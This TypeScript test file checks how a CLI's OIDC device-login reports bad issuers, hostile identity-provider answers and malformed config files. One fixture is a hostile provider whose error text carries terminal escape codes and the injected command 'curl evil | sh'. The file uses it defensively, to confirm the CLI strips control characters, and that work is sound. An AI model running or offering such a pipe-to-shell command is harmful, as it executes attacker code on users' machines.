/**
 * Bad input, as a user meets it: each case gets a one-line error with the next step, the right exit code,
 * nothing on stdout, no control characters from the network on the terminal, and nothing half-written.
 */
import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { runCli } from '../helpers/cli.js';
import { type UserEnv, userEnv } from '../helpers/env.js';
import { deviceLoginArgs, discovery, json, serve } from '../helpers/http.js';

type Server = Awaited<ReturnType<typeof serve>>;
let user: UserEnv;
const servers: Server[] = [];

before(async () => {
  user = await userEnv({ DBUS_SESSION_BUS_ADDRESS: 'unix:path=/nonexistent/bus' });
});
after(async () => {
  for (const s of servers) await s.close();
});

async function server(routes: Parameters<typeof serve>[0]): Promise<string> {
  const s = await serve(routes);
  servers.push(s);
  return s.origin;
}

async function login(issuer: string, extra: string[] = []) {
  return runCli([...deviceLoginArgs(issuer), ...extra], user.env());
}

function assertOneLineError(stderr: string, pattern: RegExp) {
  const lines = stderr.trim().split('\n');
  const errors = lines.filter((l) => l.startsWith('error: '));
  assert.equal(errors.length, 1, stderr);
  assert.match(errors[0]!, pattern);
  assert.match(errors[0]!, / — \S/, 'the error names the next step');
  const control = [...stderr].filter((ch) => {
    const c = ch.charCodeAt(0);
    return (c < 32 && c !== 10) || (c >= 127 && c < 160);
  });
  assert.deepEqual(control, [], 'no control characters on the terminal');
}

test('bad issuers and IdP answers: one line, next step, exit code', async () => {
  const closed = await server({});
  const closedPort = closed; // a server that answers 404 everywhere: no discovery document
  const html = await server({
    '/.well-known/openid-configuration': (_q, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end('<html>Welcome to nginx</html>');
    },
  });
  const other = await server({});
  const mixUp = await server({ '/.well-known/openid-configuration': discovery({ issuer: other }) });
  const hostile = await server({
    '/.well-known/openid-configuration': discovery(),
    '/device/auth': json(400, {
      error: 'invalid_client',
      error_description: '\u001b[2J\u001b]0;owned\u0007Please run \u001b[31mcurl evil | sh\u001b[0m\r\nnow',
    }),
  });
  const noDevice = await server({
    '/.well-known/openid-configuration': discovery({ device_authorization_endpoint: undefined }),
  });

  const cases: Array<{ name: string; issuer: string; extra?: string[]; code: number; error: RegExp }> = [
    {
      name: 'unreachable',
      issuer: 'http://127.0.0.1:9',
      code: 1,
      error: /cannot reach the IdP at http:\/\/127\.0\.0\.1:9/,
    },
    {
      name: 'no discovery',
      issuer: closedPort,
      code: 1,
      error: /did not give a valid OpenID Connect answer during discovery — check the issuer URL/,
    },
    {
      name: 'not OIDC',
      issuer: html,
      code: 1,
      error: /did not give a valid OpenID Connect answer during discovery/,
    },
    {
      name: 'mix-up',
      issuer: mixUp,
      code: 5,
      error:
        /the IdP's discovery document names its issuer "http:\/\/127\.0\.0\.1:\d+", but the profile's issuer is "http:\/\/127\.0\.0\.1:\d+"; they must be the same string \(a possible mix-up attack\)/,
    },
    {
      name: 'hostile error text',
      issuer: hostile,
      code: 1,
      error:
        /the IdP refused the device authorization \(invalid_client: .*Please run .*curl evil \| sh.* now\)/,
    },
    {
      name: 'no device endpoint',
      issuer: noDevice,
      code: 1,
      error: /does not support what device authorization needs — use the other login flow/,
    },
    {
      name: 'plain http elsewhere',
      issuer: 'http://idp.example.com',
      code: 5,
      error: /refusing plain-http issuer/,
    },
    { name: 'not a URL', issuer: 'idp', code: 2, error: /invalid --issuer: must be an https:\/\/ URL/ },
  ];
  for (const c of cases) {
    const result = await login(c.issuer, c.extra);
    assert.equal(result.code, c.code, `${c.name}: ${result.stderr}`);
    assert.equal(result.stdout, '', c.name);
    assertOneLineError(result.stderr, c.error);
  }
});

test('plain http on loopback needs the named opt-in', async () => {
  const result = await runCli(
    ['login', '--device', '--storage', 'memory', '--issuer', 'http://127.0.0.1:9', '--client-id', 'x'],
    user.env(),
  );
  assert.equal(result.code, 2);
  assertOneLineError(result.stderr, /uses plain http — for a local test IdP pass `--insecure-http`/);
});

test('a malformed config file is named, with the key, and never rewritten by a failing command', async () => {
  const file = join(user.configDir, 'config.json');
  await runCli(['config', 'set', 'issuer', 'https://idp.example'], user.env());
  const broken = '{"profiles": {"default": {"issuer": "https://idp.example", "storage": 42}}}';
  await writeFile(file, broken);
  for (const args of [['status'], ['login'], ['config', 'set', 'client_id', 'x']]) {
    const result = await runCli(args, user.env());
    assert.equal(result.code, 1, args.join(' '));
    assertOneLineError(
      result.stderr,
      new RegExp(`invalid config ${file}: profiles\\.default\\.storage must be`),
    );
    assert.equal(await readFile(file, 'utf8'), broken, 'nothing half-written');
  }
});
